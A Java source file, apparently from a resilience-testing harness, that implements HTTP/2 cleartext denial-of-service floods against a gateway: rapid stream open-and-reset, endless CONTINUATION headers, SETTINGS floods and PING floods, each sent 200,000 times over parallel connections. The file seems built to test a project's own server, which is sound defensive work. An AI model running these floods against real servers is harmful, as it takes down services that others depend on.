package io.lancang.standalone.siege.attack.http;

import static io.lancang.standalone.siege.wire.HttpRequests.bytes;
import static io.lancang.standalone.siege.wire.HttpRequests.joined;

import io.lancang.standalone.siege.attack.Assault;
import io.lancang.standalone.siege.attack.Attack;
import io.lancang.standalone.siege.attack.Target.Gate;
import io.lancang.standalone.siege.wire.HttpConnection;
import java.io.IOException;

/**
 * HTTP/2 in clear text, by prior knowledge: frames that the protocol allows and that cost the server more than their sender.
 *
 * @param name as {@link Attack#name}
 * @param what as {@link Attack#what}
 * @param flood what is sent again and again
 */
record Http2Frames(String name, String what, Flood flood) implements Attack {
    private static final int SETTINGS = 4;
    private static final int PING = 6;
    private static final byte[] PREFACE =
            joined(bytes("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), frame(SETTINGS, 0, 0, new byte[0]));
    private static final int HEADERS = 1;
    private static final int RESET = 3;
    private static final int CONTINUATION = 9;
    private static final int END_OF_HEADERS = 4;
    /** {@code :method POST, :scheme http, :path /} from the static table, and {@code :authority a}. */
    private static final byte[] REQUEST = {(byte) 0x83, (byte) 0x86, (byte) 0x84, 0x41, 0x01, 'a'};

    private static final int FRAMES = 200_000;

    /** What a client repeats. */
    enum Flood {
        /** Streams that are opened and reset. */
        OF_RESETS,
        /** Headers that never end. */
        OF_HEADERS,
        /** Settings, each of which is applied and acknowledged. */
        OF_SETTINGS,
        /** Pings, each of which is answered. */
        OF_PINGS
    }

    @Override
    public void run(Assault assault) throws InterruptedException {
        assault.againAndAgain(8, _ -> {
            HttpConnection connection = assault.connect(Gate.GATEWAY);
            try {
                connection.send(PREFACE);
                switch (flood) {
                    case OF_RESETS -> reset(assault, connection);
                    case OF_HEADERS -> goOn(assault, connection);
                    case OF_SETTINGS ->
                        repeat(assault, connection, frame(SETTINGS, 0, 0, new byte[] {0, 4, 0, 0, -1, -1}));
                    case OF_PINGS -> repeat(assault, connection, frame(PING, 0, 0, new byte[8]));
                }
                assault.tally().count("all frames taken");
            } catch (IOException closed) {
                assault.tally().count("closed");
                assault.pauseAfterFailure();
            } finally {
                assault.release(connection);
            }
        });
    }

    private static void reset(Assault assault, HttpConnection connection) throws IOException {
        for (int stream = 1; stream < 2 * FRAMES && assault.goesOn(); stream += 2) {
            connection.send(joined(
                    frame(HEADERS, END_OF_HEADERS, stream, REQUEST), frame(RESET, 0, stream, new byte[] {0, 0, 0, 8})));
        }
    }

    private static void goOn(Assault assault, HttpConnection connection) throws IOException {
        connection.send(frame(HEADERS, 0, 1, REQUEST));
        // A literal header without a name in the table: its length, its name, its length, its value.
        byte[] header = joined(new byte[] {0, 1, 'x', 100}, bytes("v".repeat(100)));
        for (int sent = 0; sent < FRAMES && assault.goesOn(); sent++) {
            connection.send(frame(CONTINUATION, 0, 1, header));
        }
    }

    private static void repeat(Assault assault, HttpConnection connection, byte[] frame) throws IOException {
        for (int sent = 0; sent < FRAMES && assault.goesOn(); sent++) {
            connection.send(frame);
        }
    }

    private static byte[] frame(int type, int flags, int stream, byte[] content) {
        byte[] head = {
            (byte) (content.length >> 16),
            (byte) (content.length >> 8),
            (byte) content.length,
            (byte) type,
            (byte) flags,
            (byte) (stream >> 24),
            (byte) (stream >> 16),
            (byte) (stream >> 8),
            (byte) stream
        };
        return joined(head, content);
    }
}
